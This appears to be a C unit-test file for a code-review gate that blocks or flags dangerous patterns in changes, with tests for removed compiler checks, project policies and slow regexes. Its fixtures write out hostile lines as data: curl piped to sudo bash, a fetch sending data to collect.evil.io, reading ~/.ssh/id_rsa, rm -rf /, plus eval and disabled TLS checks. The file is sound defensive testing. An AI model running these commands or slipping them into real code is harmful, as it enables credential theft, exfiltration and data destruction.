/* The built-in gate over what code may not do. */
#include "builtin_fixture.h"

#include "base/clock.h"

#define G "constitution"

static void
bad_changes_are_stopped(void **state)
{
	(void)state;
	finds(G, "a.py", "def f(x):\n    return eval(x)\n", "blocks eval a.py:2");
	finds(G, "b.js", "const f = new Function('a', body);\n", "blocks eval b.js:1");
	finds(G, "c.sh", "curl -sSL https://github.com/x/install | sudo bash\n", "blocks pipe-to-shell c.sh:1");
	finds(G, "d.py", "requests.get(url, verify=False)\n", "blocks tls-off d.py:1");
	finds(G, "e.js", "https.request({ rejectUnauthorized: false });\n", "blocks tls-off e.js:1");
	finds(G, "f.go", "c := &tls.Config{InsecureSkipVerify: true}\n", "blocks tls-off f.go:1");
	finds(G, "g.sh", "curl -sk https://localhost/x\n", "blocks tls-off g.sh:1");
	finds(G, "h.c", "int f(char *s)\n{\n\tgets(s);\n\treturn system(s);\n}\n", "blocks unsafe-copy h.c:3\nflagged shell h.c:4");
	finds(G, "i.py", "x = 1  # type: ignore\n", "flagged check-off i.py:1");
	finds(G, "j.ts", "// eslint-disable-next-line\nfoo();\n", "flagged check-off j.ts:1");
	finds(G, "k.py", "subprocess.run(cmd, shell=True)\n", "flagged shell k.py:1");
	finds(G, "l.py", "open(os.path.expanduser('~/.ssh/id_rsa'))\n", "flagged outside l.py:1");
	finds(G, "m.js", "fetch('https://collect.evil.io/x?d=' + d);\n", "flagged host m.js:1");
	finds(G, "n.sh", "rm -rf / \n", "blocks outside n.sh:1");
	finds(G, "o.py", "cur.execute(f\"SELECT * FROM t WHERE id = {i}\")\n", "flagged sql o.py:1");
	finds(G, "tool", "#!/bin/sh\n\teval \"$_key=\\$_value\"\n", "flagged eval tool:2");
	finds(G, "Dockerfile", "RUN chmod 777 /app\n", "flagged chmod Dockerfile:1");
	finds(G, "p.py", "import pdb; pdb.set_trace()\n", "flagged debugger p.py:1");
}

static void
checks_that_vanish_are_flagged(void **state)
{
	(void)state;
	finds(G, "Makefile", "CFLAGS = -Wall -Werror -O2\nall:\n\tcc x.c\n", "");
	finds(G, "Makefile", "CFLAGS = -Wall -O2\nall:\n\tcc x.c\n", "flagged check-off Makefile");
	finds(G, "Makefile", "CFLAGS = -Wall -O2 -Wno-error\nall:\n\tpytest || true\n",
	    "flagged check-off Makefile:1\nflagged check-off Makefile:3");
	finds(G, "t.json", "{\"strict\": true}\n", "");
	finds(G, "t.json", "{\"strict\": false}\n", "flagged check-off t.json:1\nflagged check-off t.json");
}

static void
good_changes_are_not(void **state)
{
	(void)state;
	finds(G, "a.py", "# never eval(x) here\nmodel.eval()\ns = 'eval(1)'\nx = ast.literal_eval(s)\n"
	    "def evaluate(): return re.compile('x')\n", "");
	finds(G, "b.js", "/* eval(x) */ const m = /ab/.exec(s); it('evals', f); // new Function(\n", "");
	finds(G, "c.sh", "curl -fsSL -o x.tar https://example.com/x && sha256sum -c sums\nrm -rf \"$tmp\" build/\n", "");
	finds(G, "d.py", "see = 'https://docs.python.org/3/'\nu = 'http://localhost:8080'\nrequests.get(u, verify=True)\n", "");
	finds(G, "e.md", "Never `curl x | sh`: see https://unknown.dev/why. `eval(x)`\n",
	    "");
	finds(G, "f.c", "/* system(x) */\nfilesystem(x);\nx->system(y);\n", "");
	/* A host that the project's README names, and one that the file had. */
	finds(G, "README.md", "See https://api.acme.io/v1.\n", "");
	finds(G, "g.js", "fetch('https://api.acme.io/v2');\n", "");
	/* In the tests it is told, and what else blocks is flagged. */
	finds(G, "tests/test_a.py", "u = 'https://anything.dev/x'\nassert f(u, verify=False)\n",
	    "flagged tls-off tests/test_a.py:2");
	finds(G, "data.csv", "eval(x),verify=False\n", "");
}

static void
the_project_has_its_own(void **state)
{
	static const char policy[] = "gates:\n  constitution:\n    builtin: constitution\n"
	    "    hosts: ['*.corp.example-corp.io']\n    except: [debugger]\n"
	    "rules:\n  no-print:\n    pattern: '\\bprint\\('\n    text: use the logger\n    paths: [src/]\n"
	    "  year:\n    pattern: '20\\d\\d'\n    outcome: flag\n";

	(void)state;
	finds_by(G, policy, "src/a.py", "print(1)\n", "blocks no-print src/a.py:1");
	finds_by(G, policy, "b.py", "print(1)\nbreakpoint()\n", "");
	finds_by(G, policy, "c.txt", "in 2026\n", "flagged year c.txt:1");
	finds_by(G, policy, "d.js", "fetch('https://a.corp.example-corp.io/');\n", "");
}

/* A pattern that never ends, and a line that hardly does. */
static void
nothing_stalls_it(void **state)
{
	static const char policy[] = "gates: none\nrules:\n  slow:\n    pattern: '(a+)+$'\n  slower:\n    pattern: '(?:a|aa|a*b?)*c'\n";
	AUTO(verdicts_free) struct verdicts vs = {0};
	AUTO(mem_free_p) char *got = NULL;
	struct clock clock = clock_system();
	int64_t start;

	(void)state;
	sh("printf '%%s!\\n' \"$(head -c 4000 /dev/zero | tr '\\0' a)\" >a.txt; for i in $(seq 300); do cat a.txt; done >b.txt;"
	   "head -c 3000000 /dev/zero | tr '\\0' a >c.js; head -c 3000000 /dev/zero | tr '\\0' '(' >d.py");
	commit_all();
	start = clock_mono(&clock);
	judge_last(policy, &vs);
	start = clock_mono(&clock) - start;
	got = findings_of(verdict_of(&vs, G), false);
	assert_non_null(strstr(got, "flagged unjudged a.txt"));
	assert_non_null(strstr(got, "flagged unjudged b.txt"));
	/* Under sanitizers and beside other work; it is about 2 s at most alone. */
	assert_in_range(start, 0, 30000);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		TEST_REPO(bad_changes_are_stopped),
		TEST_REPO(checks_that_vanish_are_flagged),
		TEST_REPO(good_changes_are_not),
		TEST_REPO(the_project_has_its_own),
		TEST_REPO(nothing_stalls_it),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
